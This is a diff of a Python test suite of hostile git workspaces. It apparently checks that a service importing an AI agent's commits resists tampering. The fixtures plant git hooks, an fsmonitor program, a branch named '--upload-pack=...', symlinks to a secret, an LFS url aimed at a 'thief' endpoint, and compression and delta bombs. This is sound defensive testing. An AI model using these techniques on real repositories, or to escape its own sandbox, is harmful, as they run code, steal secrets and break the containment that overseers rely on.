@@ -58,20 +58,20 @@ def a_blob(workspace: Path, content: bytes = b"x") -> str:
     return plant(workspace, "blob", content)
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def a_history_of_its_own(workspace: Path, trap: Trap) -> None:
     del trap
     git(workspace, "checkout", "-q", "--orphan", "other")
     commit(workspace, "built on nothing")
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def the_start_is_rewritten(workspace: Path, trap: Trap) -> None:
     del trap
     commit(workspace, "amended", "--amend")
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def grafts_shallow_and_replacements(workspace: Path, trap: Trap) -> None:
     """The workspace's git believes that an orphan is built on the start, and that the start is empty."""
     del trap
@@ -85,7 +85,7 @@ def grafts_shallow_and_replacements(workspace: Path, trap: Trap) -> None:
     (workspace / ".git/refs/replace" / start).write_text(f"{replacement}\n")
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def commits_in_an_alternate(workspace: Path, trap: Trap) -> None:
     (workspace / "elsewhere").write_text("x")
     commit(workspace)
@@ -98,7 +98,7 @@ def commits_in_an_alternate(workspace: Path, trap: Trap) -> None:
     (workspace / "elsewhere").unlink()
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def objects_are_a_link_to_elsewhere(workspace: Path, trap: Trap) -> None:
     commit(workspace)
     away = trap.folder / f"moved-{workspace.name}"
@@ -106,7 +106,7 @@ def objects_are_a_link_to_elsewhere(workspace: Path, trap: Trap) -> None:
     (workspace / ".git/objects").symlink_to(away)
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def an_object_is_a_link_to_a_secret(workspace: Path, trap: Trap) -> None:
     name = hashlib.sha1(b"blob %d\0" % len(trap.secret.read_bytes()) + trap.secret.read_bytes(), usedforsecurity=False).hexdigest()
     folder = workspace / ".git/objects" / name[:2]
@@ -115,7 +115,7 @@ def an_object_is_a_link_to_a_secret(workspace: Path, trap: Trap) -> None:
     claim(workspace, plant(workspace, "tree", entry("100644", b"stolen", name)))
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def objects_and_refs_that_block(workspace: Path, trap: Trap) -> None:
     del trap
     made = commit(workspace)
@@ -127,7 +127,7 @@ def objects_and_refs_that_block(workspace: Path, trap: Trap) -> None:
     os.mkfifo(workspace / ".git/index")
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def head_is_a_fifo(workspace: Path, trap: Trap) -> None:
     del trap
     commit(workspace)
@@ -135,7 +135,7 @@ def head_is_a_fifo(workspace: Path, trap: Trap) -> None:
     os.mkfifo(workspace / ".git/HEAD")
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def head_leads_out_of_the_repository(workspace: Path, trap: Trap) -> None:
     commit(workspace)
     (trap.folder / "ref").write_text(f"{'1' * 40}\n")
@@ -143,7 +143,7 @@ def head_leads_out_of_the_repository(workspace: Path, trap: Trap) -> None:
     (workspace / ".git/refs/out").symlink_to(trap.folder)
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def refs_are_huge_and_sparse(workspace: Path, trap: Trap) -> None:
     del trap
     commit(workspace)
@@ -152,20 +152,20 @@ def refs_are_huge_and_sparse(workspace: Path, trap: Trap) -> None:
         file.truncate(10 * 1024**3)
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def objects_of_another_session_are_named(workspace: Path, trap: Trap) -> None:
     """In a tree, and as a tree: the mirror has both."""
     tree = plant(workspace, "tree", entry("40000", b"all", trap.foreign_tree) + entry("100644", b"stolen", trap.foreign_blob))
     claim(workspace, tree)
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def an_object_under_the_name_of_another(workspace: Path, trap: Trap) -> None:
     plant(workspace, "blob", b"not what it is named", name=trap.foreign_blob)
     claim(workspace, plant(workspace, "tree", entry("100644", b"stolen", trap.foreign_blob)))
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def the_start_s_tree_is_forged(workspace: Path, trap: Trap) -> None:
     """What is compared with is what the server knows, whatever lies under its name."""
     del trap
@@ -174,7 +174,7 @@ def the_start_s_tree_is_forged(workspace: Path, trap: Trap) -> None:
     plant(workspace, "tree", entry("100644", b"forged", a_blob(workspace, b"y")), name=tree)
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def trees_with_names_that_lead_out(workspace: Path, trap: Trap) -> None:
     del trap
     blob = a_blob(workspace)
@@ -183,21 +183,21 @@ def trees_with_names_that_lead_out(workspace: Path, trap: Trap) -> None:
         claim(workspace, plant(workspace, "tree", entry("40000", name, inner)), message=name)
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def a_tree_with_the_hooks_of_git(workspace: Path, trap: Trap) -> None:
     hook = a_blob(workspace, trap.program.read_bytes())
     hooks = plant(workspace, "tree", entry("40000", b"hooks", plant(workspace, "tree", entry("100755", b"post-checkout", hook))))
     claim(workspace, plant(workspace, "tree", entry("40000", b".git", hooks)))
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def a_tree_with_a_name_twice(workspace: Path, trap: Trap) -> None:
     del trap
     blob = a_blob(workspace)
     claim(workspace, plant(workspace, "tree", entry("100644", b"a", blob) + entry("40000", b"a", plant(workspace, "tree", b""))))
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def a_tree_of_modes_that_are_none(workspace: Path, trap: Trap) -> None:
     del trap
     blob = a_blob(workspace)
@@ -205,7 +205,7 @@ def a_tree_of_modes_that_are_none(workspace: Path, trap: Trap) -> None:
         claim(workspace, plant(workspace, "tree", entry(mode, b"odd", blob)), message=mode.encode())
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def a_tree_that_is_its_own_thousandfold(workspace: Path, trap: Trap) -> None:
     """Ten to the thirtieth files, in thirty objects."""
     del trap
@@ -216,7 +216,7 @@ def a_tree_that_is_its_own_thousandfold(workspace: Path, trap: Trap) -> None:
     claim(workspace, plant(workspace, "tree", content))
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def a_tree_as_deep_as_it_goes(workspace: Path, trap: Trap) -> None:
     del trap
     content = entry("100644", b"file", a_blob(workspace))
@@ -225,7 +225,7 @@ def a_tree_as_deep_as_it_goes(workspace: Path, trap: Trap) -> None:
     claim(workspace, plant(workspace, "tree", content))
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def gitmodules_with_an_option_in_the_middle_of_a_history(workspace: Path, trap: Trap) -> None:
     """The last tree is harmless; who clones recursively at the commit before it runs what it says."""
     del trap
@@ -235,7 +235,7 @@ def gitmodules_with_an_option_in_the_middle_of_a_history(workspace: Path, trap: 
     commit(workspace, "hide")
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def gitmodules_under_another_name_and_as_a_link(workspace: Path, trap: Trap) -> None:
     blob = a_blob(workspace, PAYLOAD.encode())
     link = a_blob(workspace, str(trap.secret).encode())
@@ -243,7 +243,7 @@ def gitmodules_under_another_name_and_as_a_link(workspace: Path, trap: Trap) -> 
         claim(workspace, plant(workspace, "tree", entry(mode, name, identity)))
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def gitmodules_that_the_base_has_as_an_ordinary_file(workspace: Path, trap: Trap) -> None:
     """Its bytes are not asked for where they may stay; here they may not."""
     del trap
@@ -252,7 +252,7 @@ def gitmodules_that_the_base_has_as_an_ordinary_file(workspace: Path, trap: Trap
     (workspace / ".gitmodules").rename(workspace / "docs/example.txt")
 
 
-@attack
+@attack("COMMITS_NOT_KEPT", "GIT_DIRECTORY")
 def a_submodule_of_the_agent_s_own(workspace: Path, trap: Trap) -> None:
     (workspace / ".gitmodules").write_text(f'[submodule "sub"]\n\tpath = sub\n\turl = {trap.thief}\n')
     git(workspace, "init", "-q", "sub")
@@ -264,7 +264,7 @@ def a_submodule_of_the_agent_s_own(workspace: Path, trap: Trap) -> None:
     (workspace / ".git/modules/sub/config").write_text(f"[core]\n\tworktree = {trap.secret.parent}\n")
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def a_compressed_bomb(workspace: Path, trap: Trap) -> None:
     """Zeros, 64 MiB of them in 64 KiB: that say so, and that say that they are few."""
     del trap
@@ -273,7 +273,7 @@ def a_compressed_bomb(workspace: Path, trap: Trap) -> None:
         claim(workspace, plant(workspace, "tree", b"", name=name, compressed=bomb))
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def objects_that_say_another_size(workspace: Path, trap: Trap) -> None:
     del trap
     names = []
@@ -301,7 +301,7 @@ def a_pack(workspace: Path, objects: dict[str, bytes]) -> None:
     (folder / "pack-aaaa.idx").write_bytes(index)
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def deltas_in_a_circle_and_to_themselves(workspace: Path, trap: Trap) -> None:
     del trap
     one, two, self_made = "1" * 40, "2" * 40, "3" * 40
@@ -315,7 +315,7 @@ def deltas_in_a_circle_and_to_themselves(workspace: Path, trap: Trap) -> None:
         claim(workspace, plant(workspace, "tree", entry("100644", b"x", name)))
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def a_delta_that_grows(workspace: Path, trap: Trap) -> None:
     """A few bytes that say: copy it, and again, to four gibibytes; and one that copies from outside."""
     del trap
@@ -336,7 +336,7 @@ def a_delta_that_grows(workspace: Path, trap: Trap) -> None:
         claim(workspace, plant(workspace, "tree", entry("100644", b"x", name)))
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def indexes_that_lead_astray(workspace: Path, trap: Trap) -> None:
     """Counts that never end, offsets behind the end, and files that are sparse, cut off, or no packs."""
     del trap
@@ -353,7 +353,7 @@ def indexes_that_lead_astray(workspace: Path, trap: Trap) -> None:
     claim(workspace, plant(workspace, "tree", entry("100644", b"x", "1" * 40)))
 
 
-@attack
+@attack("COMMITS_NOT_KEPT")
 def more_packs_than_anybody_has(workspace: Path, trap: Trap) -> None:
     del trap
     commit(workspace)
@@ -361,7 +361,7 @@ def more_packs_than_anybody_has(workspace: Path, trap: Trap) -> None:
         (workspace / f".git/objects/pack/pack-{number}.idx").touch()
 
 
-@attack
+@attack()
 def commits_with_lines_that_are_none(workspace: Path, trap: Trap) -> None:
     """A second author, no parent, a parent that is a tree, words for terminals, a name that is a header."""
     del trap
@@ -373,7 +373,7 @@ def commits_with_lines_that_are_none(workspace: Path, trap: Trap) -> None:
     point(workspace, plant(workspace, "commit", f"tree {tree}\nparent {parent}\nauthor a <a> -99 +0000\n\nx".encode()))
 
 
-@attack
+@attack()
 def a_worktree_and_a_common_directory_elsewhere(workspace: Path, trap: Trap) -> None:
     commit(workspace)
     (workspace / ".git/commondir").write_text(f"{trap.secret.parent}\n")
@@ -383,7 +383,7 @@ def a_worktree_and_a_common_directory_elsewhere(workspace: Path, trap: Trap) -> 
     (workspace / ".git/config.worktree").write_text(f"[core]\n\tfsmonitor = {trap.program}\n\tworktree = {trap.secret.parent}\n")
 
 
-@attack
+@attack()
 def a_branch_named_as_an_option(workspace: Path, trap: Trap) -> None:
     name = f"--upload-pack={trap.program}"
     made = commit(workspace)
@@ -394,7 +394,7 @@ def a_branch_named_as_an_option(workspace: Path, trap: Trap) -> None:
     (workspace / ".git/HEAD").write_text(f"ref: refs/heads/{name}\n")
 
 
-@attack
+@attack()
 def lfs_with_an_endpoint_and_programs(workspace: Path, trap: Trap) -> None:
     with (workspace / ".git/config").open("a") as config:
         config.write(f'[lfs]\n\turl = {trap.thief}\n[lfs "customtransfer.x"]\n\tpath = {trap.program}\n')
